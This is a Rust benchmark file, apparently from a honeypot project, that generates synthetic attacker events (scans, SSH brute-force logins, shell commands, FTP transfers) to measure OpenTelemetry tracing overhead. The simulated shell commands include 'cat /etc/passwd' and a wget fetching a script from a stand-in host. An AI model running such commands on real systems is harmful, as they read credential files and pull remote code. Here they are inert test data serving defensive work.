//! Building behaviour records, to measure what the OpenTelemetry spans
//! cost.
//!
//! The input is generated here, the same on every run: 1 000 attackers of
//! 30 to 70 events each (about 50 000 events), in five kinds (beacons,
//! SSH brute-forcers, scanners, interactive shells, data thieves) whose
//! events mix connections, logins, commands, HTTP requests with headers,
//! sniffer and prober fingerprints, SSH client traits and transfers. One
//! iteration builds the record of every attacker.
//!
//! - `build_behavior_record/1000_attackers`: the spans as configured. In
//!   the default build with no tracer provider installed and
//!   `DECNET_DEVELOPER_TRACING` unset, tracing is off; with
//!   `--no-default-features` the spans are compiled out. The two results
//!   are compared as BENCHMARKS.md describes.
//! - `build_behavior_record/1000_attackers_switch_on_noop_provider` (default
//!   build only): the switch turned on with no provider installed, so every
//!   span is the API's no-op span.

use std::hint::black_box;

use criterion::{Criterion, Throughput, criterion_group, criterion_main};
use decnet_behavior::{Event, EventKind, Fields, Timestamp, build_behavior_record};
use decnet_event::telemetry;

/// The number of attackers in the input.
const ATTACKERS: usize = 1_000;

fn records(c: &mut Criterion) {
    let attackers = generate_attackers(ATTACKERS);
    let events: usize = attackers.iter().map(Vec::len).sum();
    let build_all = |attackers: &[Vec<Event>]| {
        for events in attackers {
            black_box(build_behavior_record(black_box(events)));
        }
    };

    let mut group = c.benchmark_group("build_behavior_record");
    group.throughput(Throughput::Elements(events as u64));
    group.bench_function("1000_attackers", |b| b.iter(|| build_all(&attackers)));
    if cfg!(feature = "otel") {
        telemetry::set_enabled(true);
        group.bench_function("1000_attackers_switch_on_noop_provider", |b| {
            b.iter(|| build_all(&attackers))
        });
        telemetry::set_enabled(false);
    }
    group.finish();
}

criterion_group!(benches, records);
criterion_main!(benches);

/// What an attacker does, which decides the events they produce.
#[derive(Debug, Clone, Copy)]
enum Kind {
    Beacon,
    BruteForce,
    Scanner,
    Interactive,
    Thief,
}

impl Kind {
    /// The service most of the attacker's events go to.
    fn service(self) -> &'static str {
        match self {
            Kind::Beacon => "http",
            Kind::BruteForce | Kind::Interactive => "ssh",
            Kind::Scanner => "telnet",
            Kind::Thief => "ftp",
        }
    }
}

/// The attackers, each a list of events in time order.
fn generate_attackers(count: usize) -> Vec<Vec<Event>> {
    let mut rng = XorShift(0x9e37_79b9_7f4a_7c15);
    (0..count)
        .map(|index| {
            let kind = [
                Kind::Beacon,
                Kind::BruteForce,
                Kind::Scanner,
                Kind::Interactive,
                Kind::Thief,
            ][index % 5];
            let ip = format!("198.51.{}.{}", 100 + index / 250, index % 250 + 1);
            let len = 30 + rng.below(41) as usize;
            attacker(&mut rng, kind, &ip, len)
        })
        .collect()
}

/// `len` events of an attacker of `kind` from `ip`.
fn attacker(rng: &mut XorShift, kind: Kind, ip: &str, len: usize) -> Vec<Event> {
    // 2026-05-01T00:00:00Z plus up to a day.
    let mut at_us = 1_777_593_600_000_000 + rng.below(86_400) as i64 * 1_000_000;
    let mut events = Vec::with_capacity(len);
    for i in 0..len {
        let gap_us = match kind {
            Kind::Beacon => 40_000_000 + rng.below(40_000_000),
            Kind::BruteForce => 500_000 + rng.below(2_500_000),
            Kind::Scanner => 50_000 + rng.below(900_000),
            Kind::Interactive => 200_000 + rng.below(8_000_000),
            Kind::Thief => 1_000_000 + rng.below(120_000_000),
        };
        at_us += gap_us as i64;
        events.push(event(rng, kind, ip, i, at_us));
    }
    events
}

/// The `i`-th event of an attacker of `kind`, at `at_us`.
fn event(rng: &mut XorShift, kind: Kind, ip: &str, i: usize, at_us: i64) -> Event {
    let port = (1024 + rng.below(60_000)).to_string();
    let (service, event_type, fields): (&str, &str, Vec<(&str, String)>) = match (kind, i % 10) {
        (_, 0) => (
            kind.service(),
            "tcp_syn_fingerprint",
            vec![
                ("src_ip", ip.to_owned()),
                (
                    "os_guess",
                    ["linux", "windows", "unknown"][i % 3].to_owned(),
                ),
                ("ttl", (48 + rng.below(80)).to_string()),
                ("hop_distance", rng.below(20).to_string()),
                ("window", "64240".to_owned()),
                ("wscale", "7".to_owned()),
                ("mss", "1460".to_owned()),
                ("options_sig", "M,S,T,N,W".to_owned()),
                ("has_sack", "true".to_owned()),
                ("has_timestamps", "true".to_owned()),
                ("ipid_class", "incremental".to_owned()),
            ],
        ),
        (Kind::Beacon, _) => http_request(ip, port, "Mozilla/5.0 (Windows NT 10.0; Win64; x64)"),
        (Kind::BruteForce, 1) => (
            "ssh",
            "ssh_client_banner",
            vec![
                ("src_ip", ip.to_owned()),
                ("ssh_version", "SSH-2.0-libssh2_1.10.0".to_owned()),
            ],
        ),
        (Kind::BruteForce, 2) => (
            "ssh",
            "hassh_fingerprint",
            vec![
                ("src_ip", ip.to_owned()),
                (
                    "kex_algorithms",
                    "curve25519-sha256,ecdh-sha2-nistp256".to_owned(),
                ),
            ],
        ),
        (Kind::BruteForce, _) => (
            "ssh",
            "login_attempt",
            vec![
                ("src_ip", ip.to_owned()),
                ("src_port", port),
                ("username", ["root", "admin", "ubuntu"][i % 3].to_owned()),
                ("password", format!("pass{}", rng.below(10_000))),
            ],
        ),
        (Kind::Scanner, 1 | 5) => {
            http_request(ip, port, "Mozilla/5.0 (compatible; Nmap Scripting Engine)")
        }
        (Kind::Scanner, 2) => (
            "prober",
            "tcpfp_fingerprint",
            vec![
                ("src_ip", ip.to_owned()),
                ("ttl", "54".to_owned()),
                ("window_size", "1024".to_owned()),
            ],
        ),
        (Kind::Scanner, _) => (
            ["ssh", "telnet", "ftp", "smb", "http"][i % 5],
            "connection",
            vec![
                ("src_ip", ip.to_owned()),
                ("src_port", port),
                ("dst_port", "22".to_owned()),
            ],
        ),
        (Kind::Interactive, 1) => (
            "ssh",
            "login_attempt",
            vec![
                ("src_ip", ip.to_owned()),
                ("username", "root".to_owned()),
                ("success", "true".to_owned()),
            ],
        ),
        (Kind::Interactive, _) => (
            "ssh",
            "command",
            vec![
                ("src_ip", ip.to_owned()),
                (
                    "command",
                    [
                        "uname -a",
                        "cat /etc/passwd",
                        "wget http://203.0.113.9/x.sh",
                    ][i % 3]
                        .to_owned(),
                ),
            ],
        ),
        (Kind::Thief, 1..=3) => (
            "ssh",
            "login_attempt",
            vec![("src_ip", ip.to_owned()), ("username", "backup".to_owned())],
        ),
        (Kind::Thief, 4) => (
            kind.service(),
            "tcp_flow_timing",
            vec![
                ("src_ip", ip.to_owned()),
                ("retransmits", rng.below(5).to_string()),
            ],
        ),
        (Kind::Thief, _) => (
            "ftp",
            ["download", "upload", "file_transfer"][i % 3],
            vec![
                ("src_ip", ip.to_owned()),
                ("size", (rng.below(4_000_000)).to_string()),
            ],
        ),
    };
    Event {
        timestamp: Timestamp::from_unix_micros(at_us, 0)
            .expect("a 2026 instant at offset 0 is valid"),
        decky: "decky-01".into(),
        service: service.into(),
        event_type: event_type.into(),
        attacker_ip: Some(ip.into()),
        fields: Fields::from_iter(fields),
        kind: EventKind::Attacker,
    }
}

/// An HTTP `request` event with the headers of `user_agent`.
fn http_request(
    ip: &str,
    port: String,
    user_agent: &str,
) -> (&'static str, &'static str, Vec<(&'static str, String)>) {
    (
        "http",
        "request",
        vec![
            ("remote_addr", ip.to_owned()),
            ("src_port", port),
            ("method", "GET".to_owned()),
            ("path", "/index.php".to_owned()),
            (
                "headers",
                format!(
                    r#"{{"Host": "www.example.net", "User-Agent": "{user_agent}", "Accept": "*/*"}}"#
                ),
            ),
        ],
    )
}

/// A xorshift64 generator: the same input on every run, no dependency.
#[derive(Debug)]
struct XorShift(u64);

impl XorShift {
    /// A number in `0..bound`.
    fn below(&mut self, bound: u64) -> u64 {
        self.0 ^= self.0 << 13;
        self.0 ^= self.0 >> 7;
        self.0 ^= self.0 << 17;
        self.0 % bound
    }
}
